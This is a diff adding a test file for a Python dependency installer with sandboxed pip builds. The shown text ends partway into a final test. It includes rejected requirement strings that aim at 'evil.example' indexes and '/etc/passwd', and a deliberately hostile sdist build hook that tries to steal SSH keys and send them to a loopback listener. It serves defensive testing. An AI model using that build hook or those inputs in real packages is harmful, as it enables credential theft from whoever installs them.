@@ -1,0 +1,846 @@
+import assert from "node:assert/strict";
+import { basename, join, relative } from "node:path";
+import { DependencyError } from "../../src/errors.ts";
+import { execCommand } from "../../src/exec.ts";
+import {
+  indexAccess,
+  listVenvs,
+  normaliseRequirements,
+  pipSettings,
+  PythonRuntime,
+  READY_MARKER,
+  venvKey,
+} from "../../src/runtimes/python.ts";
+import { type PreparedRuntime, scriptCommand } from "../../src/runtimes/types.ts";
+import { Manifest } from "../../src/schema.ts";
+import { BubblewrapBackend } from "../../src/sandbox/linux.ts";
+import type { SandboxBackend, SandboxPolicy } from "../../src/sandbox/types.ts";
+import type { CommandSpec } from "../../src/exec.ts";
+import { sha256 } from "../../src/_hash.ts";
+import { type TmpDir, withTmpDir } from "../helpers/tmp.ts";
+import { buildSdist, buildWheel } from "../helpers/wheel.ts";
+
+const PY_VERSION = (await new PythonRuntime().describe()).version;
+const FIXTURE = "capibara-fixture";
+/** Builds nothing from source and prints nothing: the unconfined path's warning is checked once. */
+const quiet = { warn: () => {} };
+
+/** One wheelhouse for the whole file (fixture 1.0.0 and 2.0.0), removed at exit. */
+const WHEELS = await Deno.makeTempDir({ prefix: "capibara_wheels_" });
+globalThis.addEventListener("unload", () => Deno.removeSync(WHEELS, { recursive: true }));
+for (const version of ["1.0.0", "2.0.0"]) {
+  await buildWheel(WHEELS, {
+    name: FIXTURE,
+    version,
+    module: { "capi_fixture.py": `VALUE = "fixture ${version}"\n` },
+  });
+}
+
+function manifest(deps: string[]): Manifest {
+  return Manifest.parse({
+    fingerprint: "fp_" + "0".repeat(32),
+    prompt_sha: "p_" + "0".repeat(32),
+    context_sha: "c_" + "0".repeat(32),
+    prompt: "test",
+    language: "python",
+    entry: "script.py",
+    runtime: { name: "python", version: PY_VERSION },
+    deps,
+    needs: { network: [], env: [] },
+    allow: {},
+    template_version: "1",
+    generator: { kind: "manual" },
+    created_at: new Date().toISOString(),
+    files: {},
+  });
+}
+
+/** The user's environment without their pip configuration, plus an offline wheelhouse. */
+function offlineEnv(wheels: string): Record<string, string> {
+  const env = Object.fromEntries(
+    Object.entries(Deno.env.toObject()).filter(([name]) => !name.startsWith("PIP_")),
+  );
+  return {
+    ...env,
+    PIP_CONFIG_FILE: "/dev/null", // ignore the machine's pip.conf
+    PIP_NO_INDEX: "1",
+    PIP_FIND_LINKS: wheels,
+    PIP_NO_CACHE_DIR: "1",
+  };
+}
+
+interface Fixture extends AsyncDisposable {
+  tmp: TmpDir;
+  cacheDir: string;
+  scriptDir: string;
+  env: Record<string, string>;
+}
+
+/** A temp dir with a cache dir, a script dir, and pip pointed at the wheelhouse only. */
+async function fixture(): Promise<Fixture> {
+  const tmp = await withTmpDir();
+  const scriptDir = join(tmp.path, "project", ".capibara", "scripts", "fp_x");
+  await Deno.mkdir(scriptDir, { recursive: true });
+  return {
+    tmp,
+    cacheDir: join(tmp.path, "cache"),
+    scriptDir,
+    env: offlineEnv(WHEELS),
+    [Symbol.asyncDispose]: () => tmp[Symbol.asyncDispose](),
+  };
+}
+
+/** Run a script importing the fixture module with a prepared runtime; its stdout. */
+async function runImport(prepared: PreparedRuntime, dir: string): Promise<string> {
+  const script = join(dir, "script.py");
+  const context = join(dir, "context.json");
+  await Deno.writeTextFile(
+    script,
+    "import sys, capi_fixture\nprint(capi_fixture.VALUE)\nprint(sys.prefix)\n",
+  );
+  await Deno.writeTextFile(context, "{}");
+  const spec = scriptCommand(prepared, script, context, {
+    cwd: dir,
+    env: { PATH: Deno.env.get("PATH") ?? "" },
+  });
+  const result = await execCommand(spec, { timeoutMs: 30_000 });
+  assert.equal(result.code, 0, result.stderr);
+  return result.stdout;
+}
+
+/** Directories (not lock files) under `<cacheDir>/venvs`. */
+async function venvDirs(cacheDir: string): Promise<string[]> {
+  const names: string[] = [];
+  try {
+    for await (const entry of Deno.readDir(join(cacheDir, "venvs"))) {
+      if (entry.isDirectory) names.push(entry.name);
+    }
+  } catch (error) {
+    if (!(error instanceof Deno.errors.NotFound)) throw error;
+  }
+  return names.sort();
+}
+
+function venvOf(prepared: PreparedRuntime): string {
+  return prepared.env.VIRTUAL_ENV ?? assert.fail("no VIRTUAL_ENV");
+}
+
+function building(messages: string[]): string[] {
+  return messages.filter((m) => m.startsWith("Installing") || m.startsWith("Creating"));
+}
+
+Deno.test("PythonRuntime.describe() reports the interpreter's major.minor version", async () => {
+  const out = await new Deno.Command("python3", {
+    args: ["-c", "import sys; print(f'{sys.version_info[0]}.{sys.version_info[1]}')"],
+  }).output();
+  const expected = new TextDecoder().decode(out.stdout).trim();
+  assert.deepEqual(await new PythonRuntime().describe(), { name: "python", version: expected });
+});
+
+Deno.test("PythonRuntime.describe() throws DependencyError when Python is missing", async () => {
+  for (
+    const runtime of [
+      new PythonRuntime({ python: "/nonexistent/python3" }),
+      new PythonRuntime({ env: { PATH: "/nonexistent" } }),
+    ]
+  ) {
+    const error = await runtime.describe().then(() => undefined, (e) => e);
+    assert.ok(error instanceof DependencyError, String(error));
+    assert.match(error.hint, /Install Python 3/);
+  }
+});
+
+Deno.test("normaliseRequirements() and venvKey() ignore order, spelling and blanks", async () => {
+  assert.deepEqual(
+    normaliseRequirements(["Pillow == 10.0.0", "numpy==1.26.4", "pillow==10.0.0", "A_b.C[Z,y]>=1"]),
+    ["a-b-c[y,z]>=1", "numpy==1.26.4", "pillow==10.0.0"],
+  );
+  assert.equal(
+    await venvKey("3.11", ["Pillow==10.0.0", "numpy==1.26.4"]),
+    await venvKey("3.11", ["numpy == 1.26.4", "pillow==10.0.0"]),
+  );
+  assert.notEqual(
+    await venvKey("3.11", ["numpy==1.26.4"]),
+    await venvKey("3.12", ["numpy==1.26.4"]),
+  );
+  assert.notEqual(
+    await venvKey("3.11", ["numpy==1.26.4"]),
+    await venvKey("3.11", ["numpy==1.26.3"]),
+  );
+  assert.match(await venvKey("3.11", []), /^[0-9a-f]{16}$/);
+});
+
+Deno.test("normaliseRequirements() refuses pip options, paths and URLs", () => {
+  for (
+    const bad of [
+      "--index-url=http://evil.example/simple",
+      "-r /etc/passwd",
+      "./local/pkg",
+      "/abs/pkg",
+      "pkg @ https://evil.example/pkg.whl",
+      "pkg==1\n--extra-index-url http://evil.example",
+      "",
+    ]
+  ) {
+    assert.throws(() => normaliseRequirements([bad]), DependencyError, JSON.stringify(bad));
+  }
+});
+
+Deno.test("pipSettings() reads pip's configuration: environment over install over global", () => {
+  assert.deepEqual(pipSettings({}), {
+    indexUrl: "https://pypi.org/simple",
+    extraIndexUrls: [],
+    findLinks: [],
+    noIndex: false,
+    trustedHosts: [],
+    constraints: [],
+    noCacheDir: false,
+  });
+  const items = {
+    "global.index-url": "https://global.example/simple",
+    "install.index-url": "https://install.example/simple",
+    "global.extra-index-url": "file:///opt/pypi/simple  http://127.0.0.1:8765/simple",
+    "global.find-links": "/opt/wheels",
+    ":env:.find-links": "/srv/wheels https://wheels.example/links",
+    "global.cert": "/etc/ca.pem",
+    "global.constraint": "/etc/xdg/pip/constraints.txt",
+    ":env:.default-timeout": "180",
+    ":env:.no-cache-dir": "1",
+  };
+  const settings = pipSettings(items);
+  assert.equal(settings.indexUrl, "https://install.example/simple");
+  assert.deepEqual(settings.extraIndexUrls, [
+    "file:///opt/pypi/simple",
+    "http://127.0.0.1:8765/simple",
+  ]);
+  assert.deepEqual(settings.findLinks, ["/srv/wheels", "https://wheels.example/links"]);
+  assert.equal(settings.cert, "/etc/ca.pem");
+  assert.deepEqual(settings.constraints, ["/etc/xdg/pip/constraints.txt"]);
+  assert.equal(settings.timeout, "180");
+  assert.equal(settings.noCacheDir, true);
+  // CAPIBARA_INDEX_URL replaces every index and find-links location.
+  const capibara = pipSettings(items, "https://devpi.corp.example:3141/root/pypi/+simple/");
+  assert.equal(capibara.indexUrl, "https://devpi.corp.example:3141/root/pypi/+simple/");
+  assert.deepEqual([capibara.extraIndexUrls, capibara.findLinks], [[], []]);
+  // --no-index drops every index, keeps the find-links.
+  const offline = pipSettings({ ":env:.no-index": "yes", ":env:.find-links": "/w" });
+  assert.deepEqual([offline.noIndex, offline.indexUrl, offline.findLinks], [true, undefined, [
+    "/w",
+  ]]);
+  assert.equal(pipSettings({ ":env:.no-index": "0" }).noIndex, false);
+});
+
+Deno.test("indexAccess() names exactly the index hosts and the local paths pip reads", () => {
+  assert.deepEqual(indexAccess(pipSettings({})), {
+    hosts: ["pypi.org:443", "files.pythonhosted.org:443"],
+    paths: [],
+  });
+  const access = indexAccess(pipSettings({
+    "global.index-url": "http://127.0.0.1:8765/simple/",
+    "global.extra-index-url": "file:///opt/pypi/simple https://[::1]:8443/simple " +
+      "https://user:secret@artifactory.corp.example/api/pypi/simple",
+    "global.find-links": "/opt/wheels http://wheels.example/",
+    "global.cert": "/etc/ca.pem",
+  }));
+  assert.deepEqual(access.hosts, [
+    "127.0.0.1:8765",
+    "[::1]:8443",
+    "artifactory.corp.example:443",
+    "wheels.example:80",
+  ]);
+  // A local mirror's pages link to files beside its `simple` folder.
+  assert.deepEqual(access.paths, ["/opt/pypi", "/opt/wheels", "/etc/ca.pem"]);
+  assert.deepEqual(indexAccess(pipSettings({ ":env:.no-index": "1" })), { hosts: [], paths: [] });
+});
+
+Deno.test("PythonRuntime.prepare() installs requirements importable by the script", async () => {
+  await using fx = await fixture();
+  const runtime = new PythonRuntime({ env: fx.env });
+  const progress: string[] = [];
+  const warnings: string[] = [];
+  const prepared = await runtime.prepare(manifest([`${FIXTURE}==1.0.0`]), fx.scriptDir, {
+    cacheDir: fx.cacheDir,
+    progress: (m) => progress.push(m),
+    warn: (m) => warnings.push(m),
+  });
+  // No sandbox given: the install says loudly that it runs unconfined.
+  assert.equal(warnings.length, 1);
+  assert.match(warnings[0]!, /WITHOUT a sandbox/);
+  const venv = venvOf(prepared);
+  const key = await venvKey(PY_VERSION, [`${FIXTURE}==1.0.0`]);
+  assert.equal(venv, join(fx.cacheDir, "venvs", `py${PY_VERSION}-${key}`));
+  assert.equal(prepared.interpreter, join(venv, "bin", "python"));
+  assert.deepEqual(prepared.interpreterArgs, []);
+  assert.equal(prepared.env.PYTHONNOUSERSITE, "1");
+  assert.equal(prepared.env.PYTHONDONTWRITEBYTECODE, "1");
+  assert.equal(prepared.env.PYTHONUNBUFFERED, "1");
+  assert.equal(prepared.readPaths[0], venv);
+  assert.equal(prepared.readPaths.length, 2);
+  assert.deepEqual(progress, ["Installing 1 requirement into a new environment…"]);
+  // Never under the script dir nor any .capibara folder.
+  assert.ok(relative(fx.scriptDir, venv).startsWith(".."));
+  assert.ok(!venv.includes(".capibara"));
+
+  const out = await runImport(prepared, fx.scriptDir);
+  assert.deepEqual(out.trim().split("\n"), ["fixture 1.0.0", venv]);
+});
+
+Deno.test("PythonRuntime.prepare() reuses a built environment", async () => {
+  await using fx = await fixture();
+  const deps = [`${FIXTURE}==1.0.0`];
+  const first = await new PythonRuntime({ env: fx.env }).prepare(manifest(deps), fx.scriptDir, {
+    cacheDir: fx.cacheDir,
+    ...quiet,
+  });
+  const markerPath = join(venvOf(first), READY_MARKER);
+  const before = await Deno.stat(markerPath);
+  const markerBefore = await Deno.readTextFile(markerPath);
+
+  // A fresh runtime that cannot run any Python: a hit must need no subprocess at all.
+  const progress: string[] = [];
+  const second = await new PythonRuntime({ env: { PATH: "/nonexistent" } }).prepare(
+    manifest(["Capibara_Fixture == 1.0.0"]), // same set, other spelling
+    join(fx.tmp.path, "other-script"),
+    { cacheDir: fx.cacheDir, ...quiet, progress: (m) => progress.push(m) },
+  );
+  assert.deepEqual(second, first);
+  assert.deepEqual(progress, []);
+  const after = await Deno.stat(markerPath);
+  assert.equal(after.ino, before.ino);
+  assert.equal(after.mtime?.getTime(), before.mtime?.getTime());
+  assert.equal(await Deno.readTextFile(markerPath), markerBefore);
+  assert.equal((await venvDirs(fx.cacheDir)).length, 1);
+});
+
+Deno.test("PythonRuntime.prepare() gives a different set its own environment", async () => {
+  await using fx = await fixture();
+  const runtime = new PythonRuntime({ env: fx.env });
+  const options = { cacheDir: fx.cacheDir, ...quiet };
+  const v1 = await runtime.prepare(manifest([`${FIXTURE}==1.0.0`]), fx.scriptDir, options);
+  const v2 = await runtime.prepare(manifest([`${FIXTURE}==2.0.0`]), fx.scriptDir, options);
+  const none = await runtime.prepare(manifest([]), fx.scriptDir, options);
+  assert.equal(new Set([venvOf(v1), venvOf(v2), venvOf(none)]).size, 3);
+  assert.match(await runImport(v1, fx.scriptDir), /^fixture 1\.0\.0\n/);
+  assert.match(await runImport(v2, fx.scriptDir), /^fixture 2\.0\.0\n/);
+
+  const listed = await listVenvs(fx.cacheDir);
+  assert.equal(listed.length, 3);
+  assert.ok(listed.every((v) => v.ready && v.pythonVersion === PY_VERSION));
+  assert.deepEqual(listed.map((v) => v.requirements).sort(), [
+    [],
+    [`${FIXTURE}==1.0.0`],
+    [`${FIXTURE}==2.0.0`],
+  ]);
+});
+
+Deno.test("PythonRuntime.prepare() throws DependencyError quoting pip and leaves no venv", async () => {
+  await using fx = await fixture();
+  const runtime = new PythonRuntime({ env: fx.env });
+  const error = await runtime
+    .prepare(manifest(["definitely-not-a-package==1.0.0"]), fx.scriptDir, {
+      cacheDir: fx.cacheDir,
+      ...quiet,
+    })
+    .then(() => undefined, (e) => e);
+  assert.ok(error instanceof DependencyError, String(error));
+  assert.match(error.message, /^Cannot install requirements: /);
+  assert.match(error.message, /definitely-not-a-package==1\.0\.0/);
+  assert.match(error.message, /No matching distribution found/);
+  assert.match(error.hint, /PIP_INDEX_URL/);
+  assert.match(error.hint, /PIP_FIND_LINKS/);
+  assert.match(String(error.details?.stderr), /ERROR:/);
+  assert.deepEqual(await venvDirs(fx.cacheDir), []);
+  assert.deepEqual(await listVenvs(fx.cacheDir), []);
+});
+
+Deno.test("PythonRuntime.prepare() rebuilds a half-built environment", async () => {
+  await using fx = await fixture();
+  const deps = [`${FIXTURE}==1.0.0`];
+  const venv = join(fx.cacheDir, "venvs", `py${PY_VERSION}-${await venvKey(PY_VERSION, deps)}`);
+  await Deno.mkdir(join(venv, "bin"), { recursive: true });
+  await Deno.writeTextFile(join(venv, "leftover.txt"), "crashed build");
+  assert.deepEqual((await listVenvs(fx.cacheDir)).map((v) => v.ready), [false]);
+
+  const progress: string[] = [];
+  const prepared = await new PythonRuntime({ env: fx.env }).prepare(manifest(deps), fx.scriptDir, {
+    cacheDir: fx.cacheDir,
+    ...quiet,
+    progress: (m) => progress.push(m),
+  });
+  assert.equal(venvOf(prepared), venv);
+  assert.equal(building(progress).length, 1);
+  await assert.rejects(Deno.stat(join(venv, "leftover.txt")), Deno.errors.NotFound);
+  assert.match(await runImport(prepared, fx.scriptDir), /^fixture 1\.0\.0\n/);
+
+  // A corrupt marker is not trusted either (an empty set: a cheap rebuild).
+  const options = { cacheDir: fx.cacheDir, ...quiet, progress: (m: string) => progress.push(m) };
+  const empty = await new PythonRuntime({ env: fx.env }).prepare(
+    manifest([]),
+    fx.scriptDir,
+    options,
+  );
+  await Deno.writeTextFile(join(venvOf(empty), READY_MARKER), "{not json");
+  progress.length = 0;
+  await new PythonRuntime({ env: fx.env }).prepare(manifest([]), fx.scriptDir, options);
+  assert.deepEqual(building(progress), ["Creating a new Python environment…"]);
+  assert.deepEqual((await listVenvs(fx.cacheDir)).map((v) => v.ready), [true, true]);
+});
+
+Deno.test("PythonRuntime.prepare() builds a set once for concurrent callers", async () => {
+  await using fx = await fixture();
+  const deps = [`${FIXTURE}==2.0.0`];
+  const progress: string[] = [];
+  const results = await Promise.all(
+    [0, 1, 2].map(() =>
+      new PythonRuntime({ env: fx.env }).prepare(manifest(deps), fx.scriptDir, {
+        cacheDir: fx.cacheDir,
+        ...quiet,
+        progress: (m) => progress.push(m),
+      })
+    ),
+  );
+  assert.equal(building(progress).length, 1, progress.join("\n"));
+  assert.equal(new Set(results.map(venvOf)).size, 1);
+  assert.deepEqual(await venvDirs(fx.cacheDir), [
+    `py${PY_VERSION}-${await venvKey(PY_VERSION, deps)}`,
+  ]);
+});
+
+Deno.test("PythonRuntime.prepare() builds a set once for concurrent processes", async () => {
+  await using fx = await fixture();
+  const worker = join(fx.tmp.path, "worker.ts");
+  const runtimeUrl = new URL("../../src/runtimes/python.ts", import.meta.url).href;
+  await Deno.writeTextFile(
+    worker,
+    `import { PythonRuntime } from ${JSON.stringify(runtimeUrl)};
+const [manifest, scriptDir, cacheDir] = JSON.parse(Deno.args[0]);
+const progress = [];
+const prepared = await new PythonRuntime().prepare(manifest, scriptDir, {
+  cacheDir,
+  progress: (m) => progress.push(m),
+});
+const marker = JSON.parse(await Deno.readTextFile(prepared.env.VIRTUAL_ENV + "/.capibara-ready"));
+console.log(JSON.stringify({ progress, venv: prepared.env.VIRTUAL_ENV, build: marker.build_id }));
+`,
+  );
+  const arg = JSON.stringify([manifest([`${FIXTURE}==1.0.0`]), fx.scriptDir, fx.cacheDir]);
+  const config = new URL("../../deno.json", import.meta.url).pathname;
+  const runs = await Promise.all(
+    [0, 1].map(() =>
+      execCommand({
+        program: Deno.execPath(),
+        args: ["run", "-A", "--config", config, worker, arg],
+        env: fx.env,
+        cwd: fx.tmp.path,
+      }, { timeoutMs: 120_000 })
+    ),
+  );
+  const outputs = runs.map((r) => {
+    assert.equal(r.code, 0, r.stderr);
+    return JSON.parse(r.stdout.trim().split("\n").at(-1) ?? "") as {
+      progress: string[];
+      venv: string;
+      build: string;
+    };
+  });
+  assert.equal(outputs.flatMap((o) => building(o.progress)).length, 1);
+  assert.equal(new Set(outputs.map((o) => o.venv)).size, 1);
+  assert.equal(new Set(outputs.map((o) => o.build)).size, 1);
+});
+
+Deno.test("PythonRuntime.prepare() refuses a cache directory inside .capibara", async () => {
+  await using fx = await fixture();
+  const runtime = new PythonRuntime({ env: fx.env });
+  for (const cacheDir of [join(fx.tmp.path, "project", ".capibara", "cache"), fx.scriptDir]) {
+    await assert.rejects(
+      runtime.prepare(manifest([]), fx.scriptDir, { cacheDir, ...quiet }),
+      DependencyError,
+    );
+  }
+  assert.deepEqual(await venvDirs(join(fx.tmp.path, "project", ".capibara", "cache")), []);
+});
+
+// --- Installs inside the sandbox, from a package index on loopback ---------------------------
+
+const backend = Deno.build.os === "linux" ? new BubblewrapBackend() : undefined;
+const SANDBOX = backend !== undefined && (await backend.available()).ok &&
+  (await backend.proxyAvailable()).ok;
+const KEY = "-----BEGIN FAKE KEY----- capibara-test-key-3f9a1c -----END FAKE KEY-----";
+
+/** A file a project page of the index lists. */
+interface Listed {
+  file: string;
+  bytes: Uint8Array<ArrayBuffer>;
+  /** Where the page says the file is (default: this index's `/files/<file>`). */
+  href?: string;
+}
+
+/** A PEP 503 "simple" index on 127.0.0.1, serving the given projects. */
+async function serveIndex(
+  projects: Record<string, Listed[]>,
+): Promise<AsyncDisposable & { url: string; requests: string[] }> {
+  const requests: string[] = [];
+  const files = new Map(Object.values(projects).flat().map((f) => [f.file, f.bytes]));
+  const pages = new Map<string, string>();
+  for (const [project, listed] of Object.entries(projects)) {
+    const links = await Promise.all(
+      listed.map(async (f) =>
+        `<a href="${f.href ?? `/files/${f.file}`}#sha256=${await sha256(f.bytes)}">${f.file}</a>`
+      ),
+    );
+    pages.set(project, `<!DOCTYPE html><html><body>\n${links.join("<br>\n")}\n</body></html>\n`);
+  }
+  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
+    const path = new URL(request.url).pathname;
+    requests.push(path);
+    const page = /^\/simple\/([^/]+)\/?$/.exec(path);
+    if (page && pages.has(page[1]!)) {
+      return new Response(pages.get(page[1]!), { headers: { "content-type": "text/html" } });
+    }
+    const file = /^\/files\/([^/]+)$/.exec(path);
+    if (file && files.has(file[1]!)) return new Response(files.get(file[1]!)!);
+    return new Response("not found", { status: 404 });
+  });
+  return {
+    url: `http://127.0.0.1:${server.addr.port}/simple/`,
+    requests,
+    [Symbol.asyncDispose]: () => server.shutdown(),
+  };
+}
+
+/** A TCP listener on loopback that is not the index: it counts the connections it gets. */
+function otherListener(): Disposable & { port: number; connections: () => number } {
+  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+  let connections = 0;
+  (async () => {
+    try {
+      for await (const conn of listener) {
+        connections++;
+        conn.close();
+      }
+    } catch {
+      // closed
+    }
+  })();
+  return {
+    port: listener.addr.port,
+    connections: () => connections,
+    [Symbol.dispose]: () => listener.close(),
+  };
+}
+
+interface IndexFixture extends AsyncDisposable {
+  fx: Fixture;
+  index: { url: string; requests: string[] };
+  other: { port: number; connections: () => number };
+  /** The fake home the runtime's environment names, with `.ssh/id_rsa` holding KEY. */
+  home: string;
+  /** Where a build that escaped would leave marks. */
+  outsideMarker: string;
+  exfilFile: string;
+  env: Record<string, string>;
+}
+
+/**
+ * An index serving `capibara-good` (a wheel), `capibara-evil` (only an sdist whose build tries
+ * to escape) and `capibara-elsewhere` (a wheel whose link points at the other listener).
+ */
+async function indexFixture(): Promise<IndexFixture> {
+  const fx = await fixture();
+  const root = await Deno.realPath(fx.tmp.path);
+  const home = join(root, "home");
+  await Deno.mkdir(join(home, ".ssh"), { recursive: true });
+  await Deno.writeTextFile(join(home, ".ssh", "id_rsa"), KEY);
+  const other = otherListener();
+  const outsideMarker = join(root, "escaped-marker");
+  const exfilFile = join(root, "exfil.txt");
+  const dist = join(root, "dist");
+  const good = await buildWheel(dist, {
+    name: "capibara-good",
+    version: "1.0.0",
+    module: { "capibara_good.py": 'VALUE = "good"\n' },
+  });
+  const elsewhere = await buildWheel(dist, {
+    name: "capibara-elsewhere",
+    version: "1.0.0",
+    module: { "capibara_elsewhere.py": "VALUE = 1\n" },
+  });
+  const evil = await buildSdist(dist, {
+    name: "capibara-evil",
+    version: "1.0.0",
+    module: { "capibara_evil.py": "VALUE = 1\n" },
+    buildCode: `
+import os, socket, urllib.request
+OUTSIDE, HOME, EXFIL, PORT = ${
+      JSON.stringify(JSON.stringify([outsideMarker, home, exfilFile]))
+    }, None, None, ${other.port}
+import json as _json
+OUTSIDE, HOME, EXFIL = _json.loads(OUTSIDE)
+report = {}
+stolen = []
+def attempt(name, action):
+    try:
+        report[name] = "ok:" + str(action())
+    except Exception as error:
+        report[name] = "denied:" + type(error).__name__
+def steal(path):
+    data = open(path).read()
+    stolen.append(data)
+    return len(data)
+attempt("write_outside", lambda: open(OUTSIDE, "w").write("escaped"))
+attempt("write_home", lambda: open(os.path.join(HOME, "escaped"), "w").write("escaped"))
+attempt("read_key", lambda: steal(os.path.join(HOME, ".ssh", "id_rsa")))
+attempt("read_key_tilde", lambda: steal(os.path.expanduser("~/.ssh/id_rsa")))
+attempt("read_root_key", lambda: steal("/root/.ssh/id_rsa"))
+secret = stolen[0] if stolen else "nothing"
+attempt("exfil_file", lambda: open(EXFIL, "w").write(secret))
+attempt("connect", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=5).sendall(secret.encode()))
+attempt("via_proxy", lambda: urllib.request.urlopen("http://127.0.0.1:%d/" % PORT, secret.encode(), timeout=5).status)
+files["capibara_evil_report.py"] = "REPORT = " + repr(report) + "\\n"
+`,
+  });
+  const read = async (path: string) => await Deno.readFile(path);
+  const index = await serveIndex({
+    "capibara-good": [{ file: basename(good), bytes: await read(good) }],
+    "capibara-evil": [{ file: basename(evil), bytes: await read(evil) }],
+    "capibara-elsewhere": [{
+      file: basename(elsewhere),
+      bytes: await read(elsewhere),
+      href: `http://127.0.0.1:${other.port}/files/${basename(elsewhere)}`,
+    }],
+  });
+  return {
+    fx,
+    index,
+    other,
+    home,
+    outsideMarker,
+    exfilFile,
+    env: {
+      PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
+      HOME: home,
+      PIP_CONFIG_FILE: "/dev/null", // the machine's pip.conf names other indexes
+      PIP_INDEX_URL: index.url,
+    },
+    async [Symbol.asyncDispose]() {
+      other[Symbol.dispose]();
+      await index[Symbol.asyncDispose]();
+      await fx[Symbol.asyncDispose]();
+    },
+  };
+}
+
+/** Every file under `dir` (but `except`) that holds `needle`. */
+async function filesHolding(dir: string, needle: string, except: string): Promise<string[]> {
+  const found: string[] = [];
+  for await (const entry of Deno.readDir(dir)) {
+    const path = join(dir, entry.name);
+    if (path === except) continue;
+    if (entry.isDirectory) found.push(...await filesHolding(path, needle, except));
+    else if (entry.isFile && (await Deno.readTextFile(path).catch(() => "")).includes(needle)) {
+      found.push(path);
+    }
+  }
+  return found;
+}
+
+async function assertNoEscape(ix: IndexFixture): Promise<void> {
+  await assert.rejects(Deno.stat(ix.outsideMarker), Deno.errors.NotFound);
+  await assert.rejects(Deno.stat(join(ix.home, "escaped")), Deno.errors.NotFound);
+  await assert.rejects(Deno.stat(ix.exfilFile), Deno.errors.NotFound);
+  assert.deepEqual(
+    await filesHolding(ix.fx.tmp.path, KEY, join(ix.home, ".ssh", "id_rsa")),
+    [],
+    "the key's bytes are nowhere but in the key",
+  );
+  assert.equal(ix.other.connections(), 0);
+}
+
+function sandboxTest(name: string, fn: () => Promise<void>): void {
+  Deno.test({ name, ignore: !SANDBOX, fn });
+}
+
+sandboxTest(
+  "PythonRuntime.prepare() installs a wheel from a loopback index in the sandbox",
+  async () => {
+    await using ix = await indexFixture();
+    const warnings: string[] = [];
+    const prepared = await new PythonRuntime({ env: ix.env }).prepare(
+      manifest(["capibara-good==1.0.0"]),
+      ix.fx.scriptDir,
+      { cacheDir: ix.fx.cacheDir, sandbox: backend, warn: (m) => warnings.push(m) },
+    );
+    assert.deepEqual(warnings, []);
+    const marker = JSON.parse(await Deno.readTextFile(join(venvOf(prepared), READY_MARKER)));
+    assert.deepEqual(marker.install, { confined: true, source_builds: false });
+    assert.ok(ix.index.requests.includes("/simple/capibara-good/"), ix.index.requests.join());
+    const check = await execCommand({
+      program: prepared.interpreter,
+      args: ["-c", "import capibara_good; print(capibara_good.VALUE)"],
+      env: { PATH: "/usr/bin:/bin", ...prepared.env },
+      cwd: ix.fx.tmp.path,
+    }, { timeoutMs: 30_000 });
+    assert.equal(check.stdout.trim(), "good", check.stderr);
+  },
+);
+
+sandboxTest("PythonRuntime.prepare() reaches no loopback port but the index's", async () => {
+  await using ix = await indexFixture();
+  const error = await new PythonRuntime({ env: ix.env }).prepare(
+    manifest(["capibara-elsewhere==1.0.0"]),
+    ix.fx.scriptDir,
+    { cacheDir: ix.fx.cacheDir, sandbox: backend },
+  ).then(() => undefined, (e) => e);
+  assert.ok(error instanceof DependencyError, String(error));
+  assert.match(error.message, /^Cannot install requirements: /);
+  assert.ok(ix.index.requests.includes("/simple/capibara-elsewhere/"));
+  assert.equal(ix.other.connections(), 0);
+  assert.deepEqual(await venvDirs(ix.fx.cacheDir), []);
+});
+
+sandboxTest("PythonRuntime.prepare() refuses an sdist by default, quoting pip", async () => {
+  await using ix = await indexFixture();
+  const error = await new PythonRuntime({ env: ix.env }).prepare(
+    manifest(["capibara-evil==1.0.0"]),
+    ix.fx.scriptDir,
+    { cacheDir: ix.fx.cacheDir, sandbox: backend },
+  ).then(() => undefined, (e) => e);
+  assert.ok(error instanceof DependencyError, String(error));
+  assert.equal(error.exitCode, 3);
+  assert.match(error.message, /No matching distribution found for capibara-evil==1\.0\.0/);
+  assert.match(error.hint, /install\.source_builds/);
+  assert.doesNotMatch(error.hint, /--no-sandbox/);
+  assert.equal(error.details?.source_only, "capibara-evil");
+  assert.deepEqual(await venvDirs(ix.fx.cacheDir), []);
+  await assertNoEscape(ix);
+});
+
+sandboxTest("PythonRuntime.prepare() never builds an sdist without a sandbox", async () => {
+  await using ix = await indexFixture();
+  const warnings: string[] = [];
+  const error = await new PythonRuntime({ env: ix.env }).prepare(
+    manifest(["capibara-evil==1.0.0"]),
+    ix.fx.scriptDir,
+    { cacheDir: ix.fx.cacheDir, sourceBuilds: true, warn: (m) => warnings.push(m) },
+  ).then(() => undefined, (e) => e);
+  assert.ok(error instanceof DependencyError, String(error));
+  assert.match(error.message, /No matching distribution found/);
+  assert.match(error.hint, /install\.source_builds.*sandbox on/);
+  assert.equal(warnings.length, 1);
+  assert.match(warnings[0]!, /WITHOUT a sandbox.*source_builds is ignored/s);
+  await assertNoEscape(ix);
+});
+
+sandboxTest("PythonRuntime.prepare() runs an opted-in source build confined", async () => {
+  await using ix = await indexFixture();
+  const prepared = await new PythonRuntime({ env: ix.env }).prepare(
+    manifest(["capibara-evil==1.0.0"]),
+    ix.fx.scriptDir,
+    { cacheDir: ix.fx.cacheDir, sandbox: backend, sourceBuilds: true },
+  );
+  // The build ran (its report was installed), and every attempt failed.
+  const run = await execCommand({
+    program: prepared.interpreter,
+    args: [
+      "-c",
+      "import json, capibara_evil_report; print(json.dumps(capibara_evil_report.REPORT))",
+    ],
+    env: { PATH: "/usr/bin:/bin", ...prepared.env },
+    cwd: ix.fx.tmp.path,
+  }, { timeoutMs: 30_000 });
+  assert.equal(run.code, 0, run.stderr);
+  const report = JSON.parse(run.stdout) as Record<string, string>;
+  assert.deepEqual(Object.keys(report).sort(), [
+    "connect",
+    "exfil_file",
+    "read_key",
+    "read_key_tilde",
+    "read_root_key",
+    "via_proxy",
+    "write_home",
+    "write_outside",
+  ]);
+  // Reads and connections fail inside; writes may land in the sandbox's private /tmp, which is
+  // why what matters is checked on the host below.
+  for (const attempt of ["read_key", "read_key_tilde", "read_root_key", "connect", "via_proxy"]) {
+    assert.match(report[attempt]!, /^denied:/, `${attempt}: ${report[attempt]}`);
+  }
+  const marker = JSON.parse(await Deno.readTextFile(join(venvOf(prepared), READY_MARKER)));
+  assert.deepEqual(marker.install, { confined: true, source_builds: true });
+  await assertNoEscape(ix);
+});
+
+sandboxTest(
+  "PythonRuntime.prepare() builds a set once for concurrent sandboxed callers",
+  async () => {
+    await using ix = await indexFixture();
+    const progress: string[] = [];
